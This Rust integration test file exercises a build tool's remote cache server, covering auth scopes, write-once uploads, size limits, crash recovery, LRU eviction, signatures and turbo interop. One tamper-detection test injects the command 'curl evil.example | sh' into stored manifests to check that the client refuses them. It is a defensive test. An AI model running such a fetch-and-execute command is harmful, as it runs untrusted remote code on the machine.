//! Issue 5: the remote cache. `cairn serve` with real clients: cairn in two checkouts, raw
//! HTTP for the protocol's corners, and the real `turbo` binary.

use crate::util::Project;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

pub const WRITER: &str = "writer-token-0123456789";
pub const READER: &str = "reader-token-0123456789";

pub struct Server {
    child: Child,
    pub url: String,
    pub store: tempfile::TempDir,
    _tokens: tempfile::NamedTempFile,
}

impl Server {
    pub fn start(extra: &[&str]) -> Server {
        let store = tempfile::tempdir().unwrap();
        Server::start_in(store, extra)
    }

    pub fn start_in(store: tempfile::TempDir, extra: &[&str]) -> Server {
        Server::start_with(store, extra, &[])
    }

    pub fn start_with(store: tempfile::TempDir, extra: &[&str], env: &[(&str, &str)]) -> Server {
        let mut tokens = tempfile::NamedTempFile::new().unwrap();
        writeln!(tokens, "write demo,chain {WRITER}\nread demo,chain {READER}").unwrap();
        let mut child = crate::util::cairn()
            .args(["serve", "--listen", "127.0.0.1:0", "--store"])
            .arg(store.path())
            .arg("--tokens")
            .arg(tokens.path())
            .args(extra)
            .envs(env.iter().copied())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stderr.as_mut().unwrap()).read_line(&mut line).unwrap();
        let addr =
            line.split("http://").nth(1).and_then(|r| r.split_whitespace().next()).expect("listening line").to_string();
        Server { child, url: format!("http://{addr}"), store, _tokens: tokens }
    }

    pub fn addr(&self) -> String {
        self.url.trim_start_matches("http://").to_string()
    }

    fn kill9(mut self) -> tempfile::TempDir {
        let _ = self.child.kill();
        let _ = self.child.wait();
        std::mem::replace(&mut self.store, tempfile::tempdir().unwrap())
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

const PIPELINE: &str = r#"Pipeline(
  name: "demo",
  steps: {
    "gen": (run: "echo gen >> $RUNLOG; mkdir -p out && tr a-z A-Z < src/a.txt > out/a.txt", inputs: ["src/a.txt"], outputs: ["out/"], pass_env: ["RUNLOG"]),
    "use": (run: "echo use >> $RUNLOG; cat out/a.txt src/b.txt > all.txt", inputs: ["src/b.txt"], needs: ["gen"], outputs: ["all.txt"], pass_env: ["RUNLOG"]),
  },
)"#;

fn checkout(server: &Server, token: &str, pipeline: &str) -> (Project, tempfile::TempDir) {
    let log = tempfile::tempdir().unwrap();
    let p = Project::new()
        .pipeline(pipeline)
        .file("src/a.txt", "hello\n")
        .file("src/b.txt", "world\n")
        .env("CAIRN_REMOTE", &server.url)
        .env("CAIRN_TOKEN", token)
        .env("RUNLOG", log.path().join("runs.log").to_str().unwrap());
    (p, log)
}

fn ran(log: &tempfile::TempDir) -> Vec<String> {
    let v = std::fs::read_to_string(log.path().join("runs.log")).unwrap_or_default();
    let _ = std::fs::remove_file(log.path().join("runs.log"));
    v.lines().map(String::from).collect()
}

pub fn statuses(summary: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(summary).unwrap();
    v["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| format!("{}:{}", s["name"].as_str().unwrap(), s["status"].as_str().unwrap()))
        .collect()
}

#[test]
fn two_checkouts_share_one_server() {
    let server = Server::start(&[]);
    let (a, alog) = checkout(&server, WRITER, PIPELINE);
    let r = a.run(&["build", "-p", "pipelines/test.ron"]).ok();
    assert!(r.stderr.contains("uploaded 2 entries"), "{}", r.stderr);
    assert_eq!(ran(&alog), ["gen", "use"]);
    // A second checkout with its own local store and a read-only token.
    let (b, blog) = checkout(&server, READER, PIPELINE);
    let r = b.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
    assert_eq!(statuses(&r.stdout), ["gen:hit-remote", "use:hit-remote"]);
    assert!(ran(&blog).is_empty(), "no command ran");
    assert_eq!(b.read("all.txt"), "HELLO\nworld\n");
    // Remote hits were stored locally: the next run is local, even with the remote gone.
    drop(server);
    let r = b.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
    assert_eq!(statuses(&r.stdout), ["gen:hit-local", "use:hit-local"]);
}

fn http(method: &str, url: &str, token: Option<&str>, body: Option<Vec<u8>>) -> (u16, String) {
    let c = reqwest::blocking::Client::new();
    let mut rb = c.request(method.parse().unwrap(), url);
    if let Some(t) = token {
        rb = rb.bearer_auth(t);
    }
    if let Some(b) = body {
        rb = rb.body(b);
    }
    let r = rb.send().unwrap();
    (r.status().as_u16(), r.text().unwrap_or_default())
}

#[test]
fn tokens_scopes_write_once_limits_and_batch_queries() {
    let server = Server::start(&["--max-body", "1MiB"]);
    let art = |h: &str| format!("{}/v8/artifacts/{h}?slug=demo", server.url);
    let (code, body) = http("PUT", &art("abc123"), Some(READER), Some(b"x".to_vec()));
    assert_eq!(code, 403, "a read-only token may not upload");
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["error"]["code"], "forbidden", "the JSON shape turbo parses: {body}");
    assert_eq!(http("GET", &art("abc123"), None, None).0, 401);
    assert_eq!(http("GET", &art("abc123"), Some("wrong-token-0123456789"), None).0, 401);
    assert_eq!(http("GET", &format!("{}/v8/artifacts/abc123?slug=other", server.url), Some(READER), None).0, 403);

    assert_eq!(http("PUT", &art("abc123"), Some(WRITER), Some(b"first".to_vec())).0, 202);
    assert_eq!(http("PUT", &art("abc123"), Some(WRITER), Some(b"first".to_vec())).0, 202, "identical re-upload: no-op");
    let (code, body) = http("PUT", &art("abc123"), Some(WRITER), Some(b"second".to_vec()));
    assert_eq!(code, 409, "write-once: {body}");
    assert_eq!(http("GET", &art("abc123"), Some(READER), None), (200, "first".to_string()));
    assert_eq!(http("GET", &art("nothere"), Some(READER), None).0, 404);
    assert_eq!(http("GET", &art("bad..hash"), Some(READER), None).0, 400);

    // Claimed digest must match.
    let c = reqwest::blocking::Client::new();
    let r = c
        .put(art("dig"))
        .bearer_auth(WRITER)
        .header("x-cairn-blob-digest", blake3::hash(b"other").to_hex().to_string())
        .body("data")
        .send()
        .unwrap();
    assert_eq!(r.status().as_u16(), 400);

    // 413 from Content-Length, before the body is read.
    let mut s = TcpStream::connect(server.addr()).unwrap();
    write!(s, "PUT /v8/artifacts/big?slug=demo HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {WRITER}\r\nContent-Length: 10000000000\r\n\r\n").unwrap();
    let mut resp = String::new();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let _ = s.read_to_string(&mut resp);
    assert!(resp.starts_with("HTTP/1.1 413"), "{resp}");

    // Batch existence query, status and events.
    let (code, body) = http(
        "POST",
        &format!("{}/v8/artifacts?slug=demo", server.url),
        Some(READER),
        Some(br#"{"hashes":["abc123","nothere"]}"#.to_vec()),
    );
    assert_eq!(code, 200);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["abc123"]["size"], 5);
    assert!(v["nothere"]["error"].is_object());
    assert_eq!(
        http("GET", &format!("{}/v8/artifacts/status", server.url), None, None),
        (200, r#"{"status":"enabled"}"#.into())
    );
    let ev = br#"[{"source":"REMOTE","event":"HIT","hash":"abc123","duration":5}]"#.to_vec();
    assert_eq!(http("POST", &format!("{}/v8/artifacts/events?slug=demo", server.url), Some(READER), Some(ev)).0, 200);
}

#[test]
fn slow_headers_are_cut_off_and_sigterm_shuts_down_gracefully() {
    let mut server = Server::start(&["--header-timeout", "500ms"]);
    let mut s = TcpStream::connect(server.addr()).unwrap();
    s.write_all(b"GET /v8/artifacts/status HTTP/1.1\r\nHost: x\r\n").unwrap(); // never finishes
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let started = Instant::now();
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    assert!(started.elapsed() < Duration::from_secs(4), "the server closed the slow connection");
    unsafe { libc::kill(server.child.id() as i32, libc::SIGTERM) };
    let deadline = Instant::now() + Duration::from_secs(10);
    let status = loop {
        if let Some(st) = server.child.try_wait().unwrap() {
            break st;
        }
        assert!(Instant::now() < deadline, "the server did not stop on SIGTERM");
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(status.success(), "{status:?}");
}

#[test]
fn a_server_killed_mid_upload_leaves_no_partial_object() {
    let server = Server::start(&[]);
    let mut s = TcpStream::connect(server.addr()).unwrap();
    write!(s, "PUT /v8/artifacts/partial?slug=demo HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {WRITER}\r\nContent-Length: 5000000\r\n\r\n").unwrap();
    s.write_all(&vec![7u8; 1_000_000]).unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let store = server.kill9();
    let staged: Vec<_> =
        walkdir::WalkDir::new(store.path()).into_iter().flatten().filter(|e| e.file_type().is_file()).collect();
    assert!(staged.iter().all(|e| e.path().to_string_lossy().contains("/.tmp/")), "only staging files: {staged:?}");
    let server = Server::start_in(store, &[]);
    assert_eq!(http("GET", &format!("{}/v8/artifacts/partial?slug=demo", server.url), Some(READER), None).0, 404);
    let left = std::fs::read_dir(server.store.path().join(".tmp")).unwrap().count();
    assert_eq!(left, 0, "a restarted server clears staged uploads");
}

#[test]
fn lru_quota_evicts_the_least_recently_used() {
    let server = Server::start(&["--quota", "2500"]);
    let art = |h: &str| format!("{}/v8/artifacts/{h}?slug=demo", server.url);
    for h in ["one", "two"] {
        assert_eq!(http("PUT", &art(h), Some(WRITER), Some(vec![1u8; 1000])).0, 202);
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(http("GET", &art("one"), Some(READER), None).0, 200); // "one" is now the most recent
    std::thread::sleep(Duration::from_millis(20));
    assert_eq!(http("PUT", &art("three"), Some(WRITER), Some(vec![1u8; 1000])).0, 202);
    assert_eq!(http("GET", &art("two"), Some(READER), None).0, 404, "two was least recently used");
    assert_eq!(http("GET", &art("one"), Some(READER), None).0, 200);
    assert_eq!(http("GET", &art("three"), Some(READER), None).0, 200);
}

#[test]
fn tampered_blobs_and_manifests_are_refused_by_the_client() {
    let server = Server::start(&[]);
    let (a, _alog) = checkout(&server, WRITER, PIPELINE);
    a.run(&["build", "-p", "pipelines/test.ron"]).ok();
    let files: Vec<std::path::PathBuf> =
        std::fs::read_dir(server.store.path().join("demo")).unwrap().flatten().map(|e| e.path()).collect();
    // Flip a byte in every archive body (not the envelopes).
    for f in files.iter().filter(|f| f.extension().is_none() && !f.to_string_lossy().ends_with("-meta")) {
        let mut b = std::fs::read(f).unwrap();
        let n = b.len() / 2;
        b[n] ^= 0x55;
        std::fs::write(f, b).unwrap();
    }
    let (b, blog) = checkout(&server, READER, PIPELINE);
    let r = b.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
    assert_eq!(statuses(&r.stdout), ["gen:ran", "use:ran"]);
    assert!(r.stderr.contains("does not match its digest"), "{}", r.stderr);
    assert_eq!(ran(&blog), ["gen", "use"]);
    // A manifest edited on the server no longer hashes to its key.
    let server2 = Server::start(&[]);
    let (c, _clog) = checkout(&server2, WRITER, PIPELINE);
    c.run(&["build", "-p", "pipelines/test.ron"]).ok();
    for f in std::fs::read_dir(server2.store.path().join("demo")).unwrap().flatten().map(|e| e.path()) {
        if f.to_string_lossy().ends_with("-meta") {
            // Edit every envelope's manifest (the command), keeping it valid JSON.
            let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
            let cmd = v["manifest"]["command"].as_str().unwrap().to_string();
            v["manifest"]["command"] = serde_json::Value::String(format!("{cmd}; curl evil.example | sh"));
            std::fs::write(&f, serde_json::to_vec(&v).unwrap()).unwrap();
        }
    }
    let (d, _dlog) = checkout(&server2, READER, PIPELINE);
    let r = d.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
    assert!(r.stderr.contains("remote entry refused"), "{}", r.stderr);
    assert_eq!(statuses(&r.stdout), ["gen:ran", "use:ran"]);
}

#[test]
fn signatures_are_required_when_the_pipeline_trusts_keys() {
    let keydir = tempfile::tempdir().unwrap();
    let key = keydir.path().join("ci.key");
    let out = crate::util::cairn().args(["keys", "generate", "--name", "ci"]).arg("--out").arg(&key).output().unwrap();
    let public = String::from_utf8(out.stdout).unwrap().trim().to_string();
    assert!(public.starts_with("ci:"), "{public}");
    let signed =
        PIPELINE.replace("name: \"demo\",", &format!("name: \"demo\",\n  remote: (trusted_keys: [\"{public}\"]),"));
    let server = Server::start(&[]);
    // Uploaded unsigned: readers that trust keys refuse it, loudly, with reason `signature`.
    let (a, _alog) = checkout(&server, WRITER, &signed);
    a.run(&["build", "-p", "pipelines/test.ron"]).ok();
    let (b, _blog) = checkout(&server, READER, &signed);
    let r = b.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v["steps"][0]["status"], "ran");
    assert_eq!(v["steps"][0]["reason"], "signature", "{}", r.stdout);
    assert!(r.stderr.contains("REMOTE ENTRY REJECTED") && r.stderr.contains("not signed"), "{}", r.stderr);
    // Signed by CI: accepted.
    let server2 = Server::start(&[]);
    let (c, _clog) = checkout(&server2, WRITER, &signed);
    c.run(&["build", "-p", "pipelines/test.ron", "--signing-key", key.to_str().unwrap()]).ok();
    let (d, _dlog) = checkout(&server2, READER, &signed);
    let r = d.run(&["build", "-p", "pipelines/test.ron", "--summary", "json"]).ok();
    assert_eq!(statuses(&r.stdout), ["gen:hit-remote", "use:hit-remote"]);
}

fn fifty_steps() -> String {
    let mut s = String::from("Pipeline(name: \"demo\", steps: {\n");
    for i in 0..50 {
        s.push_str(&format!("  \"s{i}\": (run: \"echo {i} > o{i}.txt\", outputs: [\"o{i}.txt\"]),\n"));
    }
    s.push_str("})");
    s
}

#[test]
fn a_dead_or_hanging_remote_costs_at_most_two_seconds_and_one_warning() {
    let pipeline = fifty_steps();
    let baseline = {
        let p = Project::new().pipeline(&pipeline);
        let t = Instant::now();
        p.run(&["build", "-q", "-p", "pipelines/test.ron"]).ok();
        t.elapsed()
    };
    // Refusing connections: a port nobody listens on.
    let refused = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = format!("http://{}", refused.local_addr().unwrap());
    drop(refused);
    // Hanging: accepts and never answers.
    let hanging = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let hang = format!("http://{}", hanging.local_addr().unwrap());
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in hanging.incoming().flatten() {
            held.push(s);
        }
    });
    for url in [dead, hang] {
        let p = Project::new().pipeline(&pipeline).env("CAIRN_REMOTE", &url).env("CAIRN_TOKEN", WRITER);
        let t = Instant::now();
        let r = p.run(&["build", "-q", "-p", "pipelines/test.ron"]).ok();
        let extra = t.elapsed().saturating_sub(baseline);
        assert!(extra < Duration::from_secs(2), "{url}: the remote added {extra:?}");
        assert_eq!(r.stderr.matches("remote cache").filter(|_| true).count(), 1, "one warning: {}", r.stderr);
        let f = p.run(&["build", "-q", "-p", "pipelines/test.ron", "--remote-required", "--force", "s0"]);
        assert_eq!(f.code, 4, "--remote-required fails the build: {}", f.stderr);
    }
}

/// The real `turbo` CLI uses `cairn serve` as its remote cache. CI installs turbo from npm;
/// set CAIRN_TURBO to its binary (or have `turbo` on PATH).
#[test]
fn real_turbo_gets_a_remote_hit_from_cairn_serve() {
    let turbo = std::env::var("CAIRN_TURBO").ok().or_else(|| {
        std::env::var_os("PATH")
            .and_then(|p| std::env::split_paths(&p).map(|d| d.join("turbo")).find(|f| f.is_file()))
            .map(|p| p.display().to_string())
    });
    let Some(turbo) = turbo else {
        assert!(std::env::var_os("CAIRN_SKIP_TURBO").is_some(), "turbo not found: set CAIRN_TURBO (npm install turbo)");
        eprintln!(
            "SKIPPED real_turbo_gets_a_remote_hit_from_cairn_serve: turbo is not installed (CAIRN_SKIP_TURBO is set)"
        );
        return;
    };
    let server = Server::start(&[]);
    let ws = Project::new()
        .file(
            "package.json",
            r#"{"name":"ws","private":true,"workspaces":["packages/*"],"packageManager":"npm@10.9.0"}"#,
        )
        .file(
            "turbo.json",
            r#"{"$schema":"https://turborepo.com/schema.json","tasks":{"build":{"outputs":["dist/**"]}}}"#,
        )
        .file(
            "packages/a/package.json",
            r#"{"name":"a","version":"1.0.0","private":true,"scripts":{"build":"sh build.sh"}}"#,
        )
        .file("packages/a/build.sh", "mkdir -p dist && echo built > dist/out.txt\n")
        .file("packages/a/src.txt", "source\n")
        .file(".gitignore", "node_modules/\ndist/\n.turbo/\n");
    std::fs::write(ws.path().join("package-lock.json"), r#"{"name":"ws","lockfileVersion":3,"requires":true,"packages":{"":{"name":"ws","workspaces":["packages/*"]},"node_modules/a":{"resolved":"packages/a","link":true},"packages/a":{"name":"a","version":"1.0.0"}}}"#).unwrap();
    let _ = Command::new("git").args(["init", "-q"]).current_dir(ws.path()).status();
    let tcache = tempfile::tempdir().unwrap();
    let cache_flag = format!("--cache-dir={}", tcache.path().join("c").display());
    let run = || {
        let out = Command::new(&turbo)
            .args(["run", "build", "--cache=local:rw,remote:rw", &cache_flag, "--no-update-notifier", "--ui=stream"])
            .current_dir(ws.path())
            .env("TURBO_API", &server.url)
            .env("TURBO_TOKEN", WRITER)
            .env("TURBO_TEAM", "demo")
            .env("TURBO_TELEMETRY_DISABLED", "1")
            .env("DO_NOT_TRACK", "1")
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr)
    };
    let first = run();
    assert!(first.contains("0 cached"), "{first}");
    std::fs::remove_dir_all(tcache.path().join("c")).unwrap();
    std::fs::remove_dir_all(ws.path().join("packages/a/dist")).unwrap();
    let second = run();
    assert!(second.contains("1 cached, 1 total"), "a remote hit with the local cache cleared: {second}");
    assert_eq!(ws.read("packages/a/dist/out.txt"), "built\n");
}

#[test]
fn plan_asks_the_remote_in_one_batch_per_level_and_sees_remote_hits() {
    let server = Server::start(&[]);
    let with_trigger = PIPELINE.replace("\n  },\n)", "\n  },\n  triggers: [(on: Manual, run: [\"use\"])],\n)");
    let (a, _alog) = checkout(&server, WRITER, &with_trigger);
    a.run(&["build", "-p", "pipelines/test.ron"]).ok();
    let (b, blog) = checkout(&server, READER, &with_trigger);
    let v = b.run(&["plan", "-p", "pipelines/test.ron", "--event", "manual", "--json"]).ok().json();
    let states: Vec<String> = v["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| format!("{}:{}", s["name"].as_str().unwrap(), s["state"]["cache"].as_str().unwrap()))
        .collect();
    // `use` can only be known as a remote hit through gen's outputs digest (the envelope's tag).
    assert_eq!(states, ["gen:hit-remote", "use:hit-remote"]);
    assert!(ran(&blog).is_empty(), "planning runs nothing");
    b.write("src/b.txt", "changed\n");
    let v = b.run(&["plan", "-p", "pipelines/test.ron", "--event", "manual", "--json"]).ok().json();
    assert_eq!(v["steps"][0]["state"]["cache"], "hit-remote");
    assert_eq!(v["steps"][1]["state"]["cache"], "will-run");
}

#[test]
fn why_on_a_fresh_checkout_compares_with_what_ci_built_last() {
    let server = Server::start(&[]);
    let (ci, _) = checkout(&server, WRITER, PIPELINE);
    ci.run(&["build", "-p", "pipelines/test.ron"]).ok();
    // A laptop that never built: its src/a.txt differs from CI's.
    let (laptop, _) = checkout(&server, READER, PIPELINE);
    laptop.write("src/a.txt", "changed on the laptop\n");
    let r = laptop.run(&["why", "-p", "pipelines/test.ron", "gen", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    assert_eq!(v[0]["compared_source"], "remote", "{}", r.stdout);
    let codes: Vec<(&str, &str)> = v[0]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["code"].as_str().unwrap(), r["reason"]["path"].as_str().unwrap_or("")))
        .collect();
    assert_eq!(codes, [("input-changed", "src/a.txt")], "{}", r.stdout);
    let text = laptop.run(&["why", "-p", "pipelines/test.ron", "gen"]).ok().stdout;
    assert!(text.contains("compared with the newest remote entry"), "{text}");
    // Without a remote there is nothing to compare with, and it says so.
    let r = laptop.run_with(&["why", "-p", "pipelines/test.ron", "gen"], &[("CAIRN_REMOTE", "")]).ok();
    assert!(r.stdout.contains("nothing to compare with"), "{}", r.stdout);
}
